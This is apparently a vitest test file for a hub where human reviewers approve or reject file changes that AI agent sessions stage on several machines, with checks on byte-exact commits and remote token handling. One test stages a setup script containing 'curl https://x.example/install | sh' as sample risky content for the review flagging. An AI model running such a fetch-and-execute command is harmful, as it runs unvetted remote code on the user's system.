import { statSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it, onTestFinished } from 'vitest'
import { digest } from '../../overlay/index.js'
import { changeKey } from '../../src/hub/change-key.js'
import { addToken } from '../../src/hub/tokens.js'
import { serveHub } from '../../src/hub-server/index.js'
import { addRemote, RemoteSync, removeRemote } from '../../src/remote/index.js'
import { readRemote, readSeen, writeSeen } from '../../src/remote/settings.js'
import { newScope, serveTrial, trialDatabase } from '../hub/fixtures.js'
import { stateOf } from '../support/state.js'
import { failure, startSession, testWorkspace } from '../support/workspace.js'
import { approveOnHub, awaitReports, connectMachine, reviewerOf, states, sync } from './kit.js'

describe('changes that two machines stage', () => {
  it('are decided on the hub, and each machine commits exactly the reviewed bytes', async () => {
    const hub = await serveTrial()
    const [one, two] = [await connectMachine(hub, 'laptop'), await connectMachine(hub, 'desk')]
    const ada = await reviewerOf(hub)
    one.session.fs.writeFileSync('src/a.ts', 'a from the laptop\n')
    one.session.fs.writeFileSync('src/b.ts', 'b from the laptop\n')
    two.session.fs.writeFileSync('src/b.ts', 'b from the desk\n')
    expect(await sync(one.workspace)).toMatchObject([{ kind: 'sent', session: 'agent-1', changes: 2 }])
    expect(await sync(two.workspace)).toMatchObject([
      { kind: 'sent' },
      { kind: 'overlap', path: 'src/b.ts', other: 'laptop.agent-1' },
    ])
    expect((await ada.queue()).map(({ session }) => session).sort()).toEqual(['desk.agent-1', 'laptop.agent-1'])
    const [change] = (await ada.open('laptop.agent-1')).changes
    expect(await ada.content(change?.shown?.before ?? '')).toBe('a one\na two\n')
    expect(await ada.content(change?.shown?.after ?? '')).toBe('a from the laptop\n')
    await ada.decide('laptop.agent-1', 'approved', 'src/a.ts')
    await ada.decide('laptop.agent-1', 'rejected', 'src/b.ts')
    expect(await sync(one.workspace)).toMatchObject([
      { kind: 'decided', path: 'src/a.ts', outcome: 'approved', reviewer: 'Ada' },
      { kind: 'decided', path: 'src/b.ts', outcome: 'rejected' },
    ])
    expect((await sync(two.workspace)).filter(({ kind }) => kind === 'decided')).toEqual([])
    expect(await states(one.workspace)).toEqual(['src/a.ts approved', 'src/b.ts rejected'])
    expect(one.project.text('src/a.ts')).toBe('a one\na two\n')
    await (await one.workspace.review('agent-1')).commit()
    expect([one.project.text('src/a.ts'), one.project.text('src/b.ts')]).toEqual(['a from the laptop\n', 'b\n'])
    expect(one.session.feedback?.()).toBeDefined()
  })

  it('are sent as a review here shows them, and again if an intent changes', async () => {
    const hub = await serveTrial()
    const { workspace, session } = await connectMachine(hub)
    const ada = await reviewerOf(hub)
    session.fs.writeFileSync('src/setup.sh', 'curl https://x.example/install | sh\n')
    await workspace.intents.edit('INT-001', { acceptanceCriteria: ['Rounds to cents'] })
    await sync(workspace)
    const [shown] = (await (await workspace.review('agent-1')).changes({ risk: true })).changes
    const sent = await ada.open('laptop.agent-1')
    const intent = { id: 'INT-001', name: 'Prices', scope: ['src/**', 'docs/prices.md'] }
    expect(sent.facts).toEqual({
      ...{ agent: 'tester:m-1', intents: [Object.assign({}, intent, { criteria: ['Rounds to cents'] })] },
    })
    expect(shown?.risk?.facts.length).toBeGreaterThan(0)
    for (const { sentence } of shown?.risk?.facts ?? [])
      expect(sent.changes[0]?.facts).toContainEqual(expect.stringContaining(sentence))
    await ada.decide('laptop.agent-1', 'approved', 'src/setup.sh')
    await workspace.intents.edit('INT-001', { acceptanceCriteria: ['Rounds down'] })
    await sync(workspace)
    const again = await ada.open('laptop.agent-1')
    expect(again).toMatchObject({
      facts: { intents: [{ criteria: ['Rounds down'] }] },
      changes: [{ verdict: 'approved' }],
    })
    expect(await states(workspace)).toEqual(['src/setup.sh approved'])
  })

  it('are not approved here if the agent has written since', async () => {
    const { workspace, session, ada } = await approveOnHub()
    session.fs.writeFileSync('src/a.ts', 'written after the review\n')
    expect(await sync(workspace)).toContainEqual({
      ...{ kind: 'decided', session: 'agent-1', path: 'src/a.ts', outcome: 'passed over', reviewer: 'Ada' },
    })
    expect(await states(workspace)).toEqual(['src/a.ts pending'])
    expect((await ada.queue())[0]).toMatchObject({ pending: 1 })
  })

  it('are not approved here if the hub names other bytes', async () => {
    const before = digest('a one\na two\n')
    const { workspace } = await approveOnHub(({ path }) => {
      return { key: changeKey({ path, kind: 'modify', before, after: digest('other bytes\n') }) }
    })
    expect(await sync(workspace)).toEqual([
      { kind: 'decided', session: 'agent-1', path: 'src/a.ts', outcome: 'passed over', reviewer: 'Ada' },
    ])
    expect(await states(workspace)).toEqual(['src/a.ts pending'])
  })

  it('may be of any kind', async () => {
    const hub = await serveTrial()
    const { workspace, session } = await connectMachine(hub)
    const ada = await reviewerOf(hub)
    session.fs.renameSync('src/a.ts', 'src/moved.ts')
    session.fs.unlinkSync('src/b.ts')
    session.fs.mkdirSync('src/new')
    session.fs.writeFileSync('src/new/empty.ts', '')
    session.fs.writeFileSync('src/new/data.bin', Buffer.from([0, 255, 1]))
    session.fs.symlinkSync('../sub/c.ts', 'src/new/link')
    session.fs.chmodSync('src/sub/c.ts', 0o755)
    session.fs.writeFileSync('src/new/[x]*.ts', 'odd name\n')
    await sync(workspace)
    const { changes } = await ada.open('laptop.agent-1')
    expect(changes.filter(({ shown }) => shown === undefined)).toEqual([])
    await ada.decide('laptop.agent-1', 'approved', ...changes.map(({ path }) => path))
    await sync(workspace)
    expect((await states(workspace)).filter((each) => !each.endsWith(' approved'))).toEqual([])
    await (await workspace.review('agent-1')).commit()
    await sync(workspace)
    expect(await ada.queue()).toEqual([])
  })

  it('cannot be approved on the hub if they are too large to show', async () => {
    const hub = await serveTrial()
    const { workspace, session } = await connectMachine(hub)
    const ada = await reviewerOf(hub)
    session.fs.writeFileSync('src/big.txt', 'x'.repeat(4 * 1024 * 1024 + 1))
    await sync(workspace)
    expect((await ada.open('laptop.agent-1')).changes[0]?.shown).toBeUndefined()
    const response = await ada.ask('laptop.agent-1', 'approved', 'src/big.txt')
    expect([response.status, await response.json()]).toMatchObject([403, { error: { code: 'refused' } }])
    await sync(workspace)
    expect(await states(workspace)).toEqual(['src/big.txt pending'])
  })
})

describe('a sync', () => {
  it('records each decision once, also after it was withdrawn here', async () => {
    const { workspace } = await approveOnHub()
    await sync(workspace)
    await (await workspace.review('agent-1')).withdraw('src/a.ts')
    expect((await sync(workspace)).filter(({ kind }) => kind === 'decided')).toEqual([])
    expect(await states(workspace)).toEqual(['src/a.ts pending'])
  })

  it('does not approve a change that a person has rejected here, but follows the hub from a rejection to an approval', async () => {
    const hub = await serveTrial()
    const { workspace, session } = await connectMachine(hub)
    const ada = await reviewerOf(hub)
    session.fs.writeFileSync('src/a.ts', 'x\n')
    session.fs.writeFileSync('src/b.ts', 'y\n')
    await sync(workspace)
    await ada.decide('laptop.agent-1', 'approved', 'src/a.ts')
    await (await workspace.review('agent-1')).reject('src/a.ts', 'No.')
    await ada.decide('laptop.agent-1', 'rejected', 'src/b.ts')
    await sync(workspace)
    expect(await states(workspace)).toEqual(['src/a.ts rejected', 'src/b.ts rejected'])
    await ada.decide('laptop.agent-1', 'approved', 'src/b.ts')
    await sync(workspace)
    expect(await states(workspace)).toEqual(['src/a.ts rejected', 'src/b.ts approved'])
  })

  it('fails while the hub is unavailable, and catches up', async () => {
    const database = await trialDatabase()
    const token = await addToken(database, Object.assign(newScope(), { name: 'laptop', role: 'host' as const }))
    const first = await serveHub({ database, report: () => undefined })
    const workspace = await testWorkspace().open()
    await addRemote(workspace.root, first.url, token)
    await first.close()
    const session = await startSession(workspace, 'agent-1')
    session.fs.writeFileSync('src/a.ts', 'offline\n')
    expect(await failure(() => sync(workspace))).toMatchObject({ code: 'away' })
    const again = await serveHub({ database, report: () => undefined, port: Number(new URL(first.url).port) })
    onTestFinished(() => again.close())
    expect(await sync(workspace)).toMatchObject([{ kind: 'sent', changes: 1 }])
  })

  it('refuses a hub that has lost decisions', async () => {
    const { workspace } = await approveOnHub()
    await sync(workspace)
    const older = await serveTrial()
    const state = readSeen(workspace.root, readRemote(workspace.root))
    await addRemote(workspace.root, older.url, await older.token('laptop', 'host'))
    writeSeen(workspace.root, Object.assign({}, state, { url: older.url }))
    expect(await failure(() => sync(workspace))).toMatchObject({ reason: 'ledger_fork' })
  })

  it('watches: it sends changes that are staged while it runs, and records each decision', async () => {
    const hub = await serveTrial()
    const { workspace, session } = await connectMachine(hub)
    const ada = await reviewerOf(hub)
    const end = new AbortController()
    const { report, next } = awaitReports()
    const syncing = new RemoteSync(workspace, report)
    const sent = next('sent')
    const running = syncing.watch(end.signal)
    session.fs.writeFileSync('src/a.ts', 'x\n')
    await sent
    const decided = next('decided')
    await ada.decide('laptop.agent-1', 'approved', 'src/a.ts')
    await decided
    end.abort()
    await running
    expect(await states(workspace)).toEqual(['src/a.ts approved'])
  })
})

describe('a remote', () => {
  it('is stored for its owner only, outside of the workspace', async () => {
    const hub = await serveTrial()
    const { workspace } = await connectMachine(hub)
    expect(statSync(join(stateOf(workspace.root), 'remote.json')).mode & 0o777).toBe(0o600)
    removeRemote(workspace.root)
    expect(await failure(() => readRemote(workspace.root))).toMatchObject({ reason: 'nothing_selected' })
  })

  it.each(['reviewer', 'admin'] as const)('refuses a token of a %s', async (role) => {
    const hub = await serveTrial()
    const { root } = await testWorkspace().open()
    const token = await hub.token('Ada', role)
    expect(await failure(() => addRemote(root, hub.url, token))).toMatchObject({ reason: 'access_denied' })
    expect(await failure(() => readRemote(root))).toMatchObject({ reason: 'nothing_selected' })
  })

  it('refuses an invalid token', async () => {
    const hub = await serveTrial()
    const { root } = await testWorkspace().open()
    expect(await failure(() => addRemote(root, hub.url, 'wrong'))).toMatchObject({ reason: 'access_denied' })
  })

  it.each(['http://hub.example', 'ftp://hub.example', 'hub', 'http://127.0.0.1.evil.example'])(
    'sends no token to %s',
    async (url) => {
      const { root } = await testWorkspace().open()
      expect(await failure(() => addRemote(root, url, 'token'))).toMatchObject({ reason: 'unsupported' })
    },
  )
})
